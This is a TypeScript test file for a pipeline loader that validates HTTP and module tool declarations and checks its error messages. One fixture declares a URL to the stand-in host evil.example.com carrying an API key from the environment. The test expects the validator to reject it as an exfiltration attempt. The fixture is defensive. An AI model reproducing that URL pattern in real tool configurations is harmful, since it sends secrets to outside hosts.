import { mkdir, mkdtemp, realpath, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { DiagnosticError, formatDiagnostic, loadPipeline, validateFiles } from '../../src/index.ts';

async function project(files: Record<string, string>): Promise<string> {
  const dir = await realpath(await mkdtemp(path.join(tmpdir(), 'planexec-kinds-')));
  for (const [name, text] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(dir, name)), { recursive: true });
    await writeFile(path.join(dir, name), text);
  }
  return dir;
}

async function problems(file: string, cwd: string): Promise<string[]> {
  try {
    await loadPipeline(file, { cwd, config: null });
  } catch (error) {
    expect(error).toBeInstanceOf(DiagnosticError);
    return (error as DiagnosticError).diagnostics.map(formatDiagnostic);
  }
  throw new Error(`expected ${file} to be rejected`);
}

const lines = (...text: string[]) => `${text.join('\n')}\n`;
const pipeline = (...tools: string[]) => lines('version: 1', 'name: n', 'task: t', 'tools:', ...tools);

describe('http and module tools in the loader', () => {
  it('loads both kinds with their defaults, retries and timeouts, and onFailure', async () => {
    const dir = await project({
      'tools/mod.mjs': 'export function count(args) { return args.items.length; }\n',
      'tools/web.yaml': lines(
        '- name: get_issue',
        '  description: One issue of a GitHub repository',
        '  url: "https://api.github.com/repos/{{args.repo}}/issues/{{args.number}}"',
        '  headers: { Authorization: "Bearer {{env.GITHUB_TOKEN}}" }',
        '  args: { type: object, properties: { repo: { type: string }, number: { type: integer } }, required: [repo, number] }',
        '  output: json',
        '  timeout: 10s',
        '  retries: { attempts: 3, backoff: 500ms }',
        '- name: count',
        '  description: Count items',
        '  module: ./mod.mjs',
        '  export: count',
        '  args: { type: object, properties: { items: { type: array } } }',
      ),
      'p.yaml': lines(
        'version: 1',
        'name: n',
        'task: t',
        'tools:',
        '  - use: tools/web.yaml',
        '  - name: post_note',
        '    description: Post a note',
        '    method: POST',
        '    url: "http://localhost:8080/notes"',
        '    allowHosts: [localhost, "*.internal.example"]',
        '    body: { text: "{{args.text}}", pinned: true }',
        '    args: { type: object, properties: { text: { type: string } } }',
        'execution: { onFailure: cancel }',
      ),
    });
    const loaded = await loadPipeline('p.yaml', { cwd: dir, config: null });
    expect(loaded.execution.onFailure).toBe('cancel');
    const [getIssue, count, postNote] = loaded.tools;
    expect(getIssue).toMatchObject({
      kind: 'http',
      method: 'GET',
      allowHosts: ['api.github.com'],
      timeoutMs: 10_000,
      retries: { attempts: 3, backoffMs: 500, maxBackoffMs: 30_000 },
      headers: { Authorization: 'Bearer {{env.GITHUB_TOKEN}}' },
    });
    expect(count).toMatchObject({ kind: 'module', module: path.join(dir, 'tools/mod.mjs'), export: 'count', output: 'text' });
    expect(postNote).toMatchObject({ kind: 'http', method: 'POST', allowHosts: ['localhost', '*.internal.example'], body: { text: '{{args.text}}', pinned: true } });
  });

  it('reports every problem of http and module declarations at file:line:col', async () => {
    const dir = await project({
      'p.yaml': pipeline(
        '  - name: dynamic_host',
        '    description: d',
        '    url: "https://{{args.host}}/x"',
        '    args: { type: object, properties: { host: { type: string } } }',
        '  - name: off_list',
        '    description: d',
        '    url: "https://evil.example.com/{{args.path}}?key={{env.API_KEY}}"',
        '    allowHosts: [api.example.com]',
        '    args: { type: object, properties: { pth: { type: string } } }',
        '  - name: get_with_body',
        '    description: d',
        '    url: "https://api.example.com/"',
        '    body: "{{args.text}}"',
        '    args: { type: object, properties: { text: { type: string } } }',
        '  - name: bad_fields',
        '    description: d',
        '    url: "ftp://api.example.com/"',
        '    method: FETCH',
        '    command: [curl]',
        '    args: { type: object }',
        '  - name: missing_module',
        '    description: d',
        '    module: ./nowhere.js',
        '    args: { type: object }',
        '  - name: retrying',
        '    description: d',
        '    command: [sync]',
        '    retries: { attempts: 0, backoff: 1m }',
        '    args: { type: object }',
      ),
    });
    expect(await problems('p.yaml', dir)).toEqual([
      'p.yaml:7:10 error: the url\'s host depends on the arguments: list the hosts it may be in allowHosts',
      'p.yaml:11:10 error: the url\'s host evil.example.com is not in allowHosts (api.example.com)',
      'p.yaml:11:36 error: url placeholder {{args.path}} names no declared argument (did you mean "pth"?)',
      'p.yaml:11:54 error: url placeholder {{env.API_KEY}}: environment variables can only be used in headers, so a secret never ends up in a URL, body or log',
      'p.yaml:17:11 error: a GET request cannot have a body (GET is the default: set e.g. method: POST)',
      'p.yaml:21:10 error: "tools[3].url" must be an http:// or https:// URL (got "ftp://api.example.com/")',
      'p.yaml:22:13 error: "tools[3].method" must be one of: GET, HEAD, POST, PUT, PATCH, DELETE (got "FETCH"; did you mean "PATCH"?)',
      'p.yaml:23:5 error: a tool has one kind: command (command:), http (url:) or module (module:), but this one has "url" (http) and "command" (command); keep one, and declare any other as a tool of its own',
      `p.yaml:27:13 error: module file not found: ./nowhere.js (looked for ${path.join(dir, 'nowhere.js')}; the path is relative to p.yaml)`,
      'p.yaml:32:26 error: "tools[5].retries.attempts" must be >= 1 (got 0)',
    ]);
  });

  it('warns about retryOn without retries and rejects a backoff longer than maxBackoff', async () => {
    const dir = await project({
      'tools.yaml': lines(
        '- name: flaky',
        '  description: d',
        '  command: [sync]',
        '  retryOn: [75]',
        '  args: { type: object }',
        '- name: slow_retry',
        '  description: d',
        '  command: [sync]',
        '  retries: { attempts: 2, backoff: 1m }',
        '  args: { type: object }',
      ),
      'p.yaml': pipeline('  - use: tools.yaml', 'execution: { onFailure: stop }'),
    });
    expect((await validateFiles(['p.yaml'], dir)).map(formatDiagnostic)).toEqual([
      'p.yaml:6:25 error: "execution.onFailure" must be one of: wait, cancel (got "stop")',
      'tools.yaml:4:12 warning: retryOn has no effect without retries (add e.g. retries: { attempts: 3 })',
      'tools.yaml:9:36 error: retries.backoff (60000 ms) is longer than retries.maxBackoff (30000 ms, the default)',
    ]);
  });
});
